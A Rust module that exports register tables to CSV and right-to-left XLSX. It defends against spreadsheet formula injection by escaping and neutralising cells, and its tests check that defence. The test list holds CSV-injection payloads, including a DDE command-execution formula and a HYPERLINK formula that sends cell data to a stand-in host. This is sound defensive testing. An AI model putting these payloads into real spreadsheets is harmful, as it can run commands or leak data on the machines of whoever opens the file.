//! Tables for spreadsheets: CSV as RFC 4180 has it, and XLSX from the right. A cell is text and nothing else: what a
//! citizen wrote never becomes a formula.

use std::fs::File;
use std::io::{self, BufWriter, Write};

use pishkhan::domain::cell::harmless;
use pishkhan::domain::text::clean_line;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// A sheet that is being written, row by row.
pub enum Sheet {
    /// Comma-separated, with the mark by which spreadsheets see UTF-8.
    Csv(Box<csv::Writer<BufWriter<File>>>),
    /// Office Open XML, from right to left.
    Xlsx {
        /// The package.
        zip: Box<ZipWriter<BufWriter<File>>>,
        /// Rows so far.
        rows: u32,
    },
}

const TYPES: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#;
const RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const BOOK: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="register" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const BOOK_RELS: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#;
const HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView rightToLeft="1" workbookViewId="0"><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/></sheetView></sheetViews><cols><col min="1" max="20" width="18" customWidth="1"/></cols><sheetData>"#;
const FOOT: &str = "</sheetData></worksheet>";

impl Sheet {
    /// Begins a CSV.
    pub fn csv(file: File) -> io::Result<Self> {
        let mut out = BufWriter::new(file);
        out.write_all("\u{feff}".as_bytes())?;
        let writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out);
        Ok(Self::Csv(Box::new(writer)))
    }

    /// Begins an XLSX. Its five parts are small and fixed; a library for them would be larger than they are.
    pub fn xlsx(file: File) -> io::Result<Self> {
        let mut zip = ZipWriter::new(BufWriter::new(file));
        let packed = SimpleFileOptions::default();
        for (name, text) in [
            ("[Content_Types].xml", TYPES),
            ("_rels/.rels", RELS),
            ("xl/workbook.xml", BOOK),
            ("xl/_rels/workbook.xml.rels", BOOK_RELS),
        ] {
            zip.start_file(name, packed)?;
            zip.write_all(text.as_bytes())?;
        }
        // A year of a large office is beyond the sizes that a plain entry can say.
        zip.start_file("xl/worksheets/sheet1.xml", packed.large_file(true))?;
        zip.write_all(HEAD.as_bytes())?;
        Ok(Self::Xlsx { zip: Box::new(zip), rows: 0 })
    }

    /// Writes a row.
    pub fn row(&mut self, cells: &[&str]) -> io::Result<()> {
        match self {
            Self::Csv(writer) => Ok(writer.write_record(cells.iter().map(|cell| harmless(cell)))?),
            Self::Xlsx { zip, rows } => {
                *rows += 1;
                write!(zip, "<row r=\"{rows}\">")?;
                for cell in cells {
                    write!(zip, "<c t=\"inlineStr\"><is><t xml:space=\"preserve\">{}</t></is></c>", escaped(cell))?;
                }
                write!(zip, "</row>")
            }
        }
    }

    /// Ends the sheet and waits until it is on the disk.
    pub fn finish(self) -> io::Result<()> {
        let out = match self {
            Self::Csv(writer) => writer.into_inner().map_err(|error| io::Error::other(error.to_string()))?,
            Self::Xlsx { mut zip, .. } => {
                zip.write_all(FOOT.as_bytes())?;
                zip.finish()?
            }
        };
        out.into_inner().map_err(io::IntoInnerError::into_error)?.sync_all()
    }
}

fn escaped(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len());
    for c in clean_line(cell).chars() {
        match c {
            '<' => text.push_str("&lt;"),
            '>' => text.push_str("&gt;"),
            '&' => text.push_str("&amp;"),
            // Not of XML, or half of a sign of another encoding.
            '\u{fffe}' | '\u{ffff}' => text.push('\u{fffd}'),
            c if c.is_control() => text.push('\u{fffd}'),
            c => text.push(c),
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    const PAYLOADS: [&str; 28] = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{200c}=1+1",
        "\u{feff}=1+1",
        "\u{202e}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x/?\"&A1)",
        "=\"a\",\"b\"\r\n=1",
        "%0A=1",
        "|calc",
        "−1",
        "\u{e0001}=HYPERLINK(\"http://x/?\"&A1)",
        "\u{1}=1+1",
        "\u{fff9}=1",
        "\u{ad}=1",
        "\u{180e}\u{1d173}=1",
        "\u{1}\t=1",
    ];

    fn written(begin: impl Fn(File) -> io::Result<Sheet>) -> Vec<u8> {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("sheet");
        let mut sheet = begin(File::create(&path).unwrap()).unwrap();
        sheet.row(&["شماره", "موضوع"]).unwrap();
        for payload in PAYLOADS {
            sheet.row(&["1405/و/00001", payload]).unwrap();
        }
        sheet.row(&["a,b", "said \"so\""]).unwrap();
        sheet.finish().unwrap();
        std::fs::read(path).unwrap()
    }

    #[test]
    fn no_cell_of_a_csv_begins_as_a_formula_and_quotes_are_as_the_rfc_has_them() {
        let text = String::from_utf8(written(Sheet::csv)).unwrap();
        assert!(
            text.starts_with("\u{feff}شماره,موضوع\r\n") && text.ends_with("\"a,b\",\"said \"\"so\"\"\"\r\n"),
            "{text}"
        );
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), PAYLOADS.len() + 1);
        for (row, payload) in rows.iter().zip(PAYLOADS) {
            assert!(row[1].starts_with('\''), "{payload:?} became {:?}", &row[1]);
        }
    }

    #[test]
    fn every_cell_of_an_xlsx_is_text_and_the_sheet_reads_from_the_right() {
        let bytes = written(Sheet::xlsx);
        let mut zip = zip::ZipArchive::new(io::Cursor::new(bytes)).unwrap();
        assert_eq!(zip.len(), 5);
        let mut text = String::new();
        zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut text).unwrap();
        assert!(text.contains("rightToLeft=\"1\"") && !text.contains("<f>") && !text.contains("<f "));
        let mut reader = quick_xml::Reader::from_str(&text);
        let (mut cells, mut typed) = (0, 0);
        loop {
            match reader.read_event().unwrap() {
                quick_xml::events::Event::Start(tag) if tag.name().as_ref() == "c" => {
                    cells += 1;
                    let kind = tag.attributes().flatten().find(|one| one.key.as_ref() == "t");
                    typed += usize::from(kind.is_some_and(|kind| kind.value.as_ref() == "inlineStr"));
                }
                quick_xml::events::Event::Eof => break,
                _ => {}
            }
        }
        assert_eq!((cells, typed), (2 * (PAYLOADS.len() + 2), 2 * (PAYLOADS.len() + 2)));
    }
}
